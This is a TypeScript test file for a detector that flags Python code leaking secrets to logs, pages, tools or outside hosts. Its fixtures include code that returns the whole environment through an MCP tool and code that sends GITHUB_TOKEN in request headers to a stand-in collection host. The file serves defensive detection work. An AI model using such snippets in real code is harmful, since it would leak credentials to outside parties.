import assert from 'node:assert/strict';
import { test } from 'node:test';
import { hazardsOf } from './hazards-of.ts';

const secrets = (source: string): readonly string[] =>
  hazardsOf(source)
    .filter((hazard) => / secret-/.test(hazard))
    .map((hazard) => hazard.replace(/^\d+ /, ''));

const key = 'import os\nkey = os.environ["API_KEY"]\n';

function tells(hazard: string, sources: readonly string[]): void {
  for (const source of sources) assert.ok(secrets(source).includes(hazard), source);
}

function allows(sources: readonly string[]): void {
  for (const source of sources) assert.deepEqual(secrets(source), [], source);
}

test('whoever reads a log, a tracker or a page has the secrets in it', () => {
  tells('secret-shown', [
    `${key}import structlog\nlog = structlog.get_logger()\nlog.info("on", key=key)`,
    `${key}from rich.console import Console\nConsole().print(f"{key}")`,
    `${key}import mlflow\nmlflow.set_tag("k", key)`,
    `${key}from flask import Flask\napp = Flask("a")\n@app.route("/")\ndef show():\n    return key`,
    `${key}import subprocess\nsubprocess.run(["tool", "--key=" + key])`,
    `${key}from git import Repo\nRepo(".").index.commit("with " + key)`,
  ]);
  tells('secret-sent', [
    `${key}from openai import OpenAI\nOpenAI().chat.completions.create(messages=[{"role": "user", "content": key}])`,
    `${key}import redis\nredis.Redis().publish("c", key)`,
    'import os\nfrom mcp.server.fastmcp import FastMCP\nmcp = FastMCP("x")\n@mcp.tool()\ndef f():\n    return dict(os.environ)',
  ]);
  allows([
    `${key}import structlog\nlog = structlog.get_logger()\nlog.info("on", has_key=bool(key))`,
    `${key}from flask import Flask\napp = Flask("a")\n@app.route("/")\ndef show():\n    return {"ok": bool(key)}`,
    `${key}from openai import OpenAI\nOpenAI(api_key=key).chat.completions.create(messages=[])`,
    'import os, subprocess\nsubprocess.run(["tool"], input=os.environ["API_KEY"].encode())',
    'import os, subprocess\nsubprocess.run(["tool"], env={**os.environ, "K": os.environ["API_KEY"]})',
  ]);
});

test('an object is shown with the fields that it holds', () => {
  tells('secret-shown', [
    `${key}class C:\n    def __init__(self):\n        self.key = key\nprint(vars(C()))`,
    'from pydantic_settings import BaseSettings\nclass S(BaseSettings):\n    db_password: str\nprint(S().model_dump())',
    'import argparse\np = argparse.ArgumentParser()\np.add_argument("--token")\nprint(p.parse_args())',
    `${key}print({"a": 1, **{"k": key}})`,
  ]);
  allows([
    `${key}class C:\n    def __init__(self):\n        self.key = key\nprint(C())`,
    'from pydantic import SecretStr\nfrom pydantic_settings import BaseSettings\nclass S(BaseSettings):\n    api_key: SecretStr\nprint(S().api_key, S())',
    'import argparse\np = argparse.ArgumentParser()\np.add_argument("--token")\np.add_argument("--out")\nprint(p.parse_args().out)',
    'import argparse\np = argparse.ArgumentParser()\np.add_argument("--max-tokens")\nprint(p.parse_args())',
  ]);
});

test('names, and what a filter lets pass, are no secrets', () => {
  tells('secret-shown', [
    'import os\nprint({k: v for k, v in os.environ.items() if "KEY" in k})',
    'import os\nfor k in os.environ:\n    print(k, os.environ[k])',
  ]);
  allows([
    'import os\nprint(sorted(os.environ))',
    'import os\nprint({k: v for k, v in os.environ.items() if k.startswith("NCCL_")})',
    'import os\nprint({k: ("***" if "KEY" in k else v) for k, v in os.environ.items()})',
    'import os\nfor k, v in os.environ.items():\n    if k in ("RANK", "WORLD_SIZE"):\n        print(k, v)',
  ]);
});

test('a key in a header goes to the service that it is for', () => {
  tells('secret-sent', [
    'import os, requests\nrequests.get("https://collect.example", headers={"Authorization": os.environ["GITHUB_TOKEN"]})',
    'import os, requests\nrequests.get("https://collect.example", headers={"User-Agent": os.environ["API_KEY"]})',
  ]);
  allows([
    'import os, requests\nrequests.get("https://api.github.com/user", headers={"Authorization": os.environ["GITHUB_TOKEN"]})',
    'import os, requests\nrequests.get("https://api.example.com", headers={"X-API-Key": os.environ["EXAMPLE_API_KEY"]})',
  ]);
});
